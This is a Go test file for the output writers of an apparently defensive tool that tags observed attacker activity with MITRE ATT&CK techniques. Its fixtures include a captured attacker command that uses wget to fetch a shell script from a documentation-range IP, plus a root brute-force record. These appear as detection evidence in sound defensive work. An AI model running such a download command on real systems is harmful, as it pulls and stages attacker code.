package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
)

// catalogue is immutable, and read once.
var catalogue = sync.OnceValue(attack.Load)

// download is a tag as the engine makes them.
func download() event.Tag {
	return event.Tag{
		UUID:       event.TagUUID(new([]byte), "command", "s1#cmd0", "R0018", 1, "T1105", ""),
		AttackerIP: "203.0.113.9", SourceKind: "command", SourceID: "s1#cmd0",
		AttackerUUID: "3a90f681-a007-5d06-8036-a9c1661decb1", SessionID: event.Some("s1"),
		Tactic: "TA0011", Technique: "T1105", Confidence: 0.85, RuleID: "R0018", RuleVersion: 1,
		Evidence:      []byte(`{"command_text":"cd /tmp; wget http://203.0.113.9/x.sh","matched":"wget http://203.0.113.9/x.sh"}`),
		AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/T1105",
		ObservedAt: "2026-03-18T10:26:00Z",
	}
}

// guess is a tag with all that download has not.
func guess() event.Tag {
	return event.Tag{
		UUID:       event.TagUUID(new([]byte), "auth_attempt", "auth:h:s2", "R0002", 3, "T1110", "T1110.001"),
		SourceKind: "auth_attempt", SourceID: "auth:h:s2", IdentityUUID: "id-7", DeckyID: event.Some(""),
		Tactic: "TA0006", Technique: "T1110", SubTechnique: "T1110.001", Confidence: 1, RuleID: "R0002", RuleVersion: 3,
		Evidence: []byte(`{"password_count":12,"username":"root"}`), AttackRelease: "enterprise-v19.1",
		MitreURL: "https://attack.mitre.org/techniques/T1110/001",
	}
}

const (
	downloadJSON = `{"uuid":"%s","attacker_ip":"203.0.113.9","source_kind":"command","source_id":"s1#cmd0","attacker_uuid":"3a90f681-a007-5d06-8036-a9c1661decb1",` +
		`"identity_uuid":null,"session_id":"s1","decky_id":null,"tactic":"TA0011","technique_id":"T1105","sub_technique_id":null,` +
		`"confidence":0.85,"rule_id":"R0018","rule_version":1,` +
		`"evidence":{"command_text":"cd /tmp; wget http://203.0.113.9/x.sh","matched":"wget http://203.0.113.9/x.sh"},` +
		`"attack_release":"enterprise-v19.1","mitre_url":"https://attack.mitre.org/techniques/T1105","observed_at":"2026-03-18T10:26:00Z"}`
	guessJSON = `{"uuid":"%s","source_kind":"auth_attempt","source_id":"auth:h:s2","attacker_uuid":null,` +
		`"identity_uuid":"id-7","session_id":null,"decky_id":"","tactic":"TA0006","technique_id":"T1110","sub_technique_id":"T1110.001",` +
		`"confidence":1,"rule_id":"R0002","rule_version":3,"evidence":{"password_count":12,"username":"root"},` +
		`"attack_release":"enterprise-v19.1","mitre_url":"https://attack.mitre.org/techniques/T1110/001"}`
	headJSON = `{"schema":"ttpctl.tag/v1","tool_version":"0.1.0","ruleset_hash":"aa11","state_hash":"bb22","attack_release":"19.1","data":[`
)

// write returns what format makes of the batches.
func write(t *testing.T, format string, o Options, acc *Account, batches ...[]event.Tag) string {
	t.Helper()
	var b bytes.Buffer
	o.Catalogue = catalogue()
	w, err := NewWriter(format, &b, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, batch := range batches {
		if err := w.Write(batch); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Finish(acc); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestWriters(t *testing.T) {
	d, g := download(), guess()
	dj, gj := fmt.Sprintf(downloadJSON, d.UUID), fmt.Sprintf(guessJSON, g.UUID)
	acc := &Account{Files: 1, Lines: 2, Direct: 2, Events: 2, Tags: 2, Errors: []string{"b.gz: truncated"}}
	foot := `,"summary":` + string(acc.JSON()) + `,"errors":[{"message":"b.gz: truncated"}]}` + "\n"
	header := strings.Join(tagColumns[:], ",") + "\n"
	rows := d.UUID.String() + `,203.0.113.9,command,s1#cmd0,3a90f681-a007-5d06-8036-a9c1661decb1,,s1,,TA0011,T1105,,0.85,R0018,1,` +
		`"{""command_text"":""cd /tmp; wget http://203.0.113.9/x.sh"",""matched"":""wget http://203.0.113.9/x.sh""}",` +
		"enterprise-v19.1,https://attack.mitre.org/techniques/T1105,2026-03-18T10:26:00Z\n" +
		g.UUID.String() + `,,auth_attempt,auth:h:s2,,id-7,,,TA0006,T1110,T1110.001,1,R0002,3,` +
		`"{""password_count"":12,""username"":""root""}",enterprise-v19.1,https://attack.mitre.org/techniques/T1110/001,` + "\n"
	tests := []struct {
		format string
		tags   []event.Tag
		want   string
	}{
		{"jsonl", []event.Tag{d, g}, dj + "\n" + gj + "\n"},
		{"jsonl", nil, ""},
		{"json", []event.Tag{d, g}, headJSON + "\n" + dj + ",\n" + gj + "\n]" + foot},
		{"json", nil, headJSON + "\n]" + foot},
		{"csv", []event.Tag{d, g}, header + rows},
		{"csv", nil, header},
		{"none", []event.Tag{d, g}, ""},
		{"table", nil, "no techniques found\n"},
	}
	for _, tt := range tests {
		got := write(t, tt.format, Options{Meta: meta}, acc, tt.tags)
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s of %d tags (-want +got):\n%s", tt.format, len(tt.tags), diff)
		}
	}
}

// Batches are the pipeline's affair: no output shows where they ended.
func TestWritersAnyBatches(t *testing.T) {
	var tags []event.Tag
	for i := range 40 {
		d, g := download(), guess()
		d.SourceID, d.AttackerUUID = fmt.Sprintf("s%d#cmd0", i), fmt.Sprintf("attacker-%d", i%7)
		tags = append(tags, d, g)
	}
	for _, format := range Formats() {
		want := write(t, format, Options{}, &Account{}, tags)
		for size := 1; size < 9; size++ {
			got := write(t, format, Options{}, &Account{}, slices.Collect(slices.Chunk(tags, size))...)
			if got != want {
				t.Errorf("%s in batches of %d = %q, want %q", format, size, got, want)
			}
			if got := write(t, format, Options{}, &Account{}, nil, tags, nil); got != want {
				t.Errorf("%s with empty batches = %q, want %q", format, got, want)
			}
		}
	}
}

// smallWriter fails on writes larger than max.
type smallWriter struct{ max, largest int }

func (w *smallWriter) Write(p []byte) (int, error) {
	w.largest = max(w.largest, len(p))
	if len(p) > w.max {
		return 0, errors.New("write too large")
	}
	return len(p), nil
}

// A batch of many tags is handed on piece by piece: memory stays flat.
func TestWritersFlatMemory(t *testing.T) {
	tags := slices.Repeat([]event.Tag{download()}, 5000)
	for _, format := range Formats() {
		w := &smallWriter{max: chunk + 8<<10}
		out, _ := NewWriter(format, w, Options{Catalogue: catalogue()})
		err := errors.Join(out.Write(tags), out.Finish(nil))
		if err != nil || w.largest == 0 && format != "none" {
			t.Errorf("%s: %v, largest write %d bytes, want at most %d", format, err, w.largest, w.max)
		}
	}
}

var errFull = errors.New("no space left on device")

type fullWriter struct{}

func (fullWriter) Write([]byte) (int, error) { return 0, errFull }

func TestWritersReportErrors(t *testing.T) {
	for _, format := range Formats() {
		w, err := NewWriter(format, fullWriter{}, Options{Catalogue: catalogue()})
		if err != nil {
			t.Fatal(err)
		}
		err = w.Write([]event.Tag{download()})
		if err == nil {
			err = w.Finish(&Account{})
		}
		if want := format != "none"; errors.Is(err, errFull) != want {
			t.Errorf("%s to a full disk: error %v, want %v", format, err, errFull)
		}
	}
}

func TestNewWriterUnknown(t *testing.T) {
	const want = `unknown output format "xml": want table, jsonl, json, csv, stix, misp, ecs, navigator, none`
	if _, err := NewWriter("xml", &bytes.Buffer{}, Options{Catalogue: catalogue()}); err == nil || err.Error() != want {
		t.Errorf("NewWriter(xml) = %v, want %s", err, want)
	}
}

func TestDocumentReadsBack(t *testing.T) {
	text := write(t, "json", Options{Meta: meta}, &Account{Tags: 2}, []event.Tag{download(), guess()})
	var doc struct {
		Schema  string           `json:"schema"`
		Data    []jsontext.Value `json:"data"`
		Summary Account          `json:"summary"`
	}
	if err := json.Unmarshal([]byte(text), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != TagSchema || len(doc.Data) != 2 || doc.Summary.Tags != 2 {
		t.Errorf("document = %+v, want schema %s, 2 tags in data and in the summary", doc, TagSchema)
	}
}

func TestCSVHasEveryField(t *testing.T) {
	tag := download()
	var members []string
	dec := jsontext.NewDecoder(bytes.NewReader(tag.AppendJSON(nil)))
	for {
		tok, err := dec.ReadToken()
		if err != nil {
			break
		}
		if dec.StackDepth() == 1 {
			if _, n := dec.StackIndex(1); n%2 == 1 {
				members = append(members, tok.String())
			}
		}
	}
	if diff := cmp.Diff(members, tagColumns[:]); diff != "" {
		t.Errorf("columns of CSV against members of JSON (-json +csv):\n%s", diff)
	}
	rows, err := csv.NewReader(strings.NewReader(write(t, "csv", Options{}, nil, []event.Tag{tag}))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV reads back as %d rows, %v, want 2", len(rows), err)
	}
	if got := rows[1][14]; got != string(tag.Evidence) {
		t.Errorf("evidence in CSV = %s, want %s", got, tag.Evidence)
	}
}
